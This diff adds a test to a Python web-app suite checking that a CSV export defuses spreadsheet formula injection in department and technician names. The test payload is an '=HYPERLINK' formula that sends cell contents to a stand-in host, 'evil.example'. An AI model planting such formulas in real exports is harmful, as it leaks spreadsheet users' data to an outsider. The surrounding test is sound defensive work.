@@ -3,6 +3,8 @@ roles are enforced; the dispatcher records a department's refusal from the board
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 from tests.forms import post_form
@@ -78,4 +80,25 @@ async def test_the_dispatcher_records_a_department_refusal_on_the_board(
         )
         csv_reply = await sup.get("/responsibility.csv")
         assert csv_reply.status_code == 200 and csv_reply.text.startswith("\ufeff")
+        await sup.aclose()
+
+
+async def test_the_responsibility_csv_quotes_a_name_a_spreadsheet_would_run_as_a_formula(
+    database_url: str, tmp_path: Path
+) -> None:
+    """Department and technician names are typed by people: `=HYPERLINK(...)` must open as text."""
+    async with running_hotline(database_url, tmp_path) as hotline:
+        sup = await hotline.sign_in("sup")
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+        dept = (await sup.post("/api/departments", json={"code": "f1", "name": formula})).json()
+        tech = await sup.post(
+            "/api/technicians",
+            json={"name": "@SUM(1+1)", "phone": "13800138009", "department_id": dept["id"]},
+        )
+        assert tech.status_code == 201, tech.text
+        await _dispatch_to(sup, "漏水", tech.json()["id"])
+        rows = list(csv.reader(io.StringIO((await sup.get("/responsibility.csv")).text.lstrip("\ufeff"))))
+        names = [row[1] for row in rows[1:]]
+        assert "'" + formula in names and "'@SUM(1+1)" in names, rows
+        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
         await sup.aclose()
